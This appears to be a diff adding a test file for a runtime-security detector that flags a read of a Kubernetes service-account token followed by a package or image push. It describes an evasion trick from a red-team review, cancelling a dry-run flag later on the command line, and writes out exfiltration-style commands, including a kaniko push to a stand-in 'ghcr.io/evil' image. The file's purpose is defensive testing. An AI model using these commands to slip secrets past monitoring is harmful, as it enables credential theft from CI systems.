@@ -1,0 +1,40 @@
+/**
+ * A dry-run flag taken back later on the command line (found by red-team review): `npm publish --dry-run
+ * --no-dry-run` and kaniko's `--no-push --no-push=false` upload (their parsers let the last one win), but
+ * the first flag alone made them no push. A small package or image, under the egress threshold, was seen
+ * by nothing.
+ */
+import { describe, expect, it } from 'vitest';
+import { brief, run, Scenario } from './builder.js';
+
+function secretThen(binary: string, args: string, source: 'tetragon' | 'falco' = 'tetragon') {
+  const s = new Scenario({ source });
+  const c = s.container({ namespace: 'ci', pod: 'job-4', name: 'job' });
+  const sh = s.init(c);
+  s.read(sh, '/var/run/secrets/kubernetes.io/serviceaccount/token', 1_100).wait(2_000);
+  const p = s.exec(c, binary, args, { parent: sh });
+  s.wait(30).connect(p, '104.16.2.35', 443).wait(10).send(p, '104.16.2.35', 443, 20_000).wait(300).exit(p);
+  return run(s.events).alerts;
+}
+
+describe('dry-run flags negated later', () => {
+  for (const source of ['tetragon', 'falco'] as const) {
+    it(`npm publish --dry-run --no-dry-run is a push (${source})`, () => {
+      expect(
+        brief(secretThen('/usr/local/bin/node', '/usr/local/bin/npm publish --dry-run --no-dry-run', source)),
+      ).toEqual([
+        { rule: 'sensitive-read-then-push', severity: 'high', tool: 'npm', destination: 'registry.npmjs.org' },
+      ]);
+    });
+  }
+
+  it('kaniko --no-push --no-push=false is a push', () => {
+    expect(
+      brief(secretThen('/kaniko/executor', '--context dir:///srv --no-push --no-push=false -d ghcr.io/evil/x:1')),
+    ).toEqual([{ rule: 'sensitive-read-then-push', severity: 'high', tool: 'kaniko', destination: 'ghcr.io' }]);
+  });
+
+  it('a dry run that stays one is quiet', () => {
+    expect(secretThen('/usr/local/bin/node', '/usr/local/bin/npm publish --no-dry-run --dry-run')).toEqual([]);
+  });
+});
